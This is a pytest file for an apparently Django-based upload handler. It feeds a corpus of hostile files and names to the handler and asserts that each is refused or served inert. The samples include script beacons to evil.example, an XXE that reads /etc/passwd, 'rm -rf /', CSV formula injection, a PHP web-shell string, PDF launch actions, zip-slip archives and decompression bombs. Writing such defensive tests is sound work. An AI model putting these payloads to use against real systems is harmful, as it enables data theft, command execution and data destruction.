"""The abuse corpus: what is refused and with which code, what is stored and as what. What is stored is inert."""

import tarfile
import time
from pathlib import Path
from typing import Any

import pytest
from django.test import RequestFactory

from common.files.errors import FileRefused
from common.files.kinds import IMAGES, OFFICE
from common.files.serving import inert_response
from common.tests.files import (
    OPAQUE,
    PACKERS,
    encrypted_zip,
    gif,
    jpeg,
    overlapping_zip,
    pdf,
    png,
    take,
    tarred,
    webp,
    zipped,
)

HTML = b"<!doctype html><script>fetch('//evil.example')</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
BOMB = b"\0" * (16 * 1024 * 1024)
DOCX = (("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"))

# name, bytes, declared type, code of the refusal or media type it is stored as
CORPUS: list[tuple[str, bytes, str, str]] = [
    # pages and scripts: stored, never served as what they are
    ("page.html", HTML, "text/html", "text/html"),
    ("notes.txt", HTML, "text/plain", "text/html"),
    ("notes.txt", b"\xef\xbb\xbf  \n<!-- x --><HTML>", "text/plain", "text/html"),
    ("", b"<iframe src='javascript:alert(1)'>", "", "text/html"),
    ("page.xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "", "text/html"),
    ("image.svg", SVG, "image/svg+xml", "image/svg+xml"),
    ("image.svg", b"<?xml version='1.0'?>\n" + SVG, "", "image/svg+xml"),
    (
        "data.xml",
        b"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        "",
        "application/xml",
    ),
    ("bomb.xml", b"<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a '&b;&b;'>]><l>&a;</l>", "", "application/xml"),
    ("main.js", b"fetch('//evil.example')", "text/javascript", "text/javascript"),
    ("main.js", b"fetch('//evil.example')", "application/javascript", "text/javascript"),
    ("run.sh", b"#!/bin/sh\nrm -rf /\n", "", "text/plain"),
    ("utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/plain; charset=utf-7", "text/plain"),
    ("formula.csv", b"=cmd|' /C calc'!A0,1\n", "text/csv", "text/csv"),
    ("ansi.log", b"\x1b]0;owned\x07\x1b[2J fine\n", "text/plain", "text/plain"),
    ("bidi.py", "access = 'user\u202e'".encode(), "", "text/plain"),
    ("readme.md", b"![x](http://evil.example/?secret)", "text/markdown", "text/markdown"),
    # a page that says it is something else
    ("photo.png", HTML, "image/png", "file_type_mismatch"),
    ("photo.png", HTML, "", "file_type_mismatch"),
    ("", HTML, "image/jpeg", "file_type_mismatch"),
    ("movie.mp4", SVG, "video/mp4", "file_type_mismatch"),
    ("report.pdf", b"just text", "application/pdf", "file_type_mismatch"),
    ("notes.txt", png(), "text/plain", "file_type_mismatch"),
    ("photo.jpg", png(), "", "file_type_mismatch"),
    ("photo.png", png(), "image/gif", "file_type_mismatch"),
    ("data.json", png(), "application/octet-stream", "file_type_mismatch"),
    ("report.docx", zipped(("a.txt", b"a")), "", "file_type_mismatch"),
    # images
    ("photo.png", png(), "image/png", "image/png"),
    ("photo.gif", gif(), "image/gif", "image/gif"),
    ("photo.jpg", jpeg(), "image/jpg", "image/jpeg"),
    ("photo.webp", webp(), "", "image/webp"),
    ("flood.png", png(30_000, 30_000), "image/png", "image_too_large"),
    ("flood.gif", gif(65_535, 65_535), "image/gif", "image_too_large"),
    ("flood.jpg", jpeg(65_535, 65_535), "image/jpeg", "image_too_large"),
    ("flood.webp", webp(16_000_000, 16_000_000), "image/webp", "image_too_large"),
    # two things at once
    ("poly.png", png(inside=HTML), "image/png", "file_is_polyglot"),
    ("poly.jpg", jpeg(comment=b"<?php system($_GET[0]);"), "image/jpeg", "file_is_polyglot"),
    ("poly.jpg", jpeg(comment=SVG), "image/jpeg", "file_is_polyglot"),
    ("poly.gif", b"GIF89a/*" + gif()[8:-1] + b"*/=1;alert(1);", "image/gif", "file_is_polyglot"),
    ("poly.gif", gif() + b"/*", "image/gif", "file_is_polyglot"),
    ("poly.png", png() + b"MZ trailing", "image/png", "file_is_polyglot"),
    ("poly.png", png() + zipped(("a", b"a")), "image/png", "file_is_polyglot"),
    ("poly.jpg", jpeg() + zipped(("evil.class", b"a")), "image/jpeg", "file_is_polyglot"),
    ("poly.pdf", pdf() + zipped(("a", b"a")), "application/pdf", "file_is_polyglot"),
    ("poly.jpg", jpeg(comment=b"%PDF-1.7 1 0 obj"), "image/jpeg", "file_is_polyglot"),
    # documents that act
    ("report.pdf", pdf(), "application/pdf", "application/pdf"),
    ("report.pdf", pdf(b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>"), "application/pdf", "file_is_active"),
    ("report.pdf", pdf(b"/OpenAction <</S /J#61vaScript>>"), "application/pdf", "file_is_active"),
    ("report.pdf", pdf(b"/A <</S /Launch /F (cmd.exe)>>"), "application/pdf", "file_is_active"),
    ("report.pdf", pdf(b"/Names <</EmbeddedFiles 5 0 R>>"), "application/pdf", "file_is_active"),
    ("report.docx", zipped(*DOCX), "", OFFICE["docx"]),
    ("report.docx", zipped(*DOCX, ("word/vbaProject.bin", b"x")), "", "archive_refused"),
    ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, "", "file_type_refused"),
    # programs
    ("tool", b"\x7fELF\x02\x01\x01" + b"\0" * 60, "", "file_is_program"),
    ("tool", b"MZ\x90\0\3\0\0\0", "", "file_is_program"),
    ("tool", b"\xcf\xfa\xed\xfe\7\0\0\1", "", "file_is_program"),
    ("A", b"\xca\xfe\xba\xbe\0\0\0\x34\xff", "", "file_is_program"),
    ("tool", b"\0asm\1\0\0\0", "", "file_is_program"),
    ("link", bytes.fromhex("4c0000000114020000000000c000000000000046"), "", "file_is_program"),
    ("photo.png", b"MZ\x90\0\3\0\0\0", "image/png", "file_is_program"),
    # archives
    ("logs.zip", zipped(("a/b.txt", b"text")), "application/zip", "application/zip"),
    ("logs.gz", PACKERS["gz"](b"text"), "application/gzip", "application/gzip"),
    ("logs.bz2", PACKERS["bz2"](b"text"), "", "application/x-bzip2"),
    ("logs.xz", PACKERS["xz"](b"text"), "", "application/x-xz"),
    ("logs.tar", tarred("a/b.txt", size=10), "application/x-tar", "application/x-tar"),
    ("logs.tgz", PACKERS["gz"](tarred("a/b.txt", size=10)), "", "application/gzip"),
    ("bomb.zip", zipped(("a", BOMB)), "application/zip", "archive_refused"),
    ("bomb.gz", PACKERS["gz"](BOMB), "application/gzip", "archive_refused"),
    ("bomb.bz2", PACKERS["bz2"](BOMB), "", "archive_refused"),
    ("bomb.xz", PACKERS["xz"](BOMB), "", "archive_refused"),
    ("bomb.tgz", PACKERS["gz"](tarred("a", size=len(BOMB))), "", "archive_refused"),
    ("many.zip", zipped(*((str(number), b"") for number in range(10_001))), "", "archive_refused"),
    ("overlap.zip", overlapping_zip(), "", "archive_refused"),
    ("locked.zip", encrypted_zip(), "", "archive_refused"),
    ("nested.zip", zipped(("inner.zip", zipped(("a", b"a")))), "", "archive_refused"),
    ("nested.gz", PACKERS["gz"](PACKERS["gz"](b"a")), "", "archive_refused"),
    ("slip.zip", zipped(("../../etc/passwd", b"x")), "", "archive_refused"),
    ("slip.zip", zipped(("..\\..\\windows\\x", b"x")), "", "archive_refused"),
    ("slip.zip", zipped(("/etc/passwd", b"x")), "", "archive_refused"),
    ("slip.zip", zipped(("C:/x", b"x")), "", "archive_refused"),
    ("link.zip", zipped(("l", b"/etc/passwd"), mode=0o120777), "", "archive_refused"),
    ("link.tar", tarred("l", tarfile.SYMTYPE, "/etc/passwd"), "", "archive_refused"),
    ("link.tar", tarred("l", tarfile.LNKTYPE, "a"), "", "archive_refused"),
    ("device.tar", tarred("sda", tarfile.BLKTYPE), "", "archive_refused"),
    ("slip.tar", tarred("../x"), "", "archive_refused"),
    ("slip.tgz", PACKERS["gz"](tarred("/etc/cron.d/x")), "", "archive_refused"),
    ("broken.zip", b"PK\x03\x04" + b"\0" * 100, "", "archive_refused"),
    ("cut.gz", PACKERS["gz"](b"text" * 1000)[:-6], "", "archive_refused"),
    ("a.7z", b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 30, "", "file_type_refused"),
    ("a.rar", b"Rar!\x1a\7\1\0" + b"\0" * 30, "", "file_type_refused"),
    # nothing we know
    ("blob", b"\x00\x01\x02\xff" * 20, "", "file_type_refused"),
    ("wide.txt", "<script>".encode("utf-16"), "text/plain", "file_type_mismatch"),
    ("nul.txt", b"a\0b", "text/plain", "file_type_mismatch"),
    ("empty.txt", b"", "text/plain", "text/plain"),
]
STORED = [each for each in CORPUS if "/" in each[3]]
NAMES_REFUSED = [
    "a\0.txt", "a\r\nSet-Cookie: x=1.txt", "a\x1b[2J.txt", "a\x7f.txt", "a\u202egnp.exe", "a\u2066b.txt",
    "a\u200bb.txt",
    "a\u2028b.txt", "\ud800.txt", "a\ufeff.txt", "..", "../..", "/", "\\", "...", " . ", "a" * 256, "ä" * 128,
    "setup.exe", "setup.EXE", "setup.exe. ", "report.pdf.exe", "report.pdf .exe", "a.hta", "a.lnk", "a.jar", "a.scr",
    "invoice.pdf.js", "photo.jpg.html", "photo.png.svg", "photo.jpg .vbs", "a.docx.ps1",
]  # fmt: skip
NAMES_CLEANED = [
    ("../../etc/passwd", "passwd"),
    ("/etc/passwd", "passwd"),
    ("..\\..\\boot.ini", "boot.ini"),
    ("C:\\Users\\me\\notes.txt", "notes.txt"),
    ("\\\\host\\share\\notes.txt", "notes.txt"),
    ("%2e%2e%2fnotes.txt", "%2e%2e%2fnotes.txt"),
    ("CON", "_CON"),
    ("nul.txt", "_nul.txt"),
    ("Com1.tar.gz", "_Com1.tar.gz"),
    ("lpt¹.txt", "_lpt¹.txt"),
    ("console.txt", "console.txt"),
    ('a<b>:"|?*.txt', "a_b______.txt"),
    ("notes.txt::$DATA", "notes.txt__$DATA"),
    ("  a   b  .txt. . ", "a b .txt"),
    (".env", ".env"),
    ("-rf", "-rf"),
    ("re\u0301sume\u0301.md", "résumé.md"),
    ("👩\u200d💻.txt", "👩\u200d💻.txt"),
    ("main.test.js", "main.test.js"),
    ("archive.tar.gz", "archive.tar.gz"),
    ("", ""),
]


@pytest.fixture(autouse=True)
def root(settings: Any, tmp_path: Path) -> Path:
    settings.MEDIA_ROOT = str(tmp_path)
    return tmp_path


def files_below(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()]


def outcome(name: str, content: bytes, declared: str) -> str:
    try:
        return take(content, declared_type=declared, file_name=name).media_type
    except FileRefused as refusal:
        [member] = refusal.extra["errors"]
        return refusal.code if member == "file" else member


def ids(corpus: list[tuple[str, bytes, str, str]]) -> list[str]:
    return [f"{name}-{declared}-{expected}" for name, _, declared, expected in corpus]


@pytest.mark.parametrize(("name", "content", "declared", "expected"), CORPUS, ids=ids(CORPUS))
def test_each_abuse_is_refused_or_stored_as_what_it_is(
    root: Path, name: str, content: bytes, declared: str, expected: str
) -> None:
    started = time.monotonic()
    assert outcome(name, content, declared) == expected
    assert time.monotonic() - started < 5
    assert len(files_below(root)) == (1 if "/" in expected else 0)


@pytest.mark.parametrize(("name", "content", "declared", "expected"), STORED, ids=ids(STORED))
def test_what_is_stored_is_served_inert(name: str, content: bytes, declared: str, expected: str) -> None:
    stored = take(content, declared_type=declared, file_name=name)
    response = inert_response(RequestFactory().get("/"), stored)
    inert = {"text/plain": "text/plain; charset=utf-8"} | {image: image for image in IMAGES}
    assert response["Content-Type"] == inert.get(expected, "application/octet-stream")
    assert response["Content-Disposition"].startswith("attachment; filename")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert response["Cross-Origin-Resource-Policy"] == "same-origin"


@pytest.mark.parametrize("name", NAMES_REFUSED)
def test_a_name_that_deceives_is_refused(root: Path, name: str) -> None:
    with pytest.raises(FileRefused) as refusal:
        take(b"text", file_name=name)
    assert (refusal.value.code, list(refusal.value.extra["errors"])) == ("file_name_refused", ["file_name"])
    assert files_below(root) == []


@pytest.mark.parametrize(("name", "shown"), NAMES_CLEANED)
def test_a_name_is_cleaned_for_people_and_no_path_is_made_of_it(root: Path, name: str, shown: str) -> None:
    stored = take(b"text", kind=OPAQUE, file_name=name)
    assert stored.file_name == shown
    [path] = files_below(root)
    assert path == root / stored.key
    assert path.name == stored.sha256
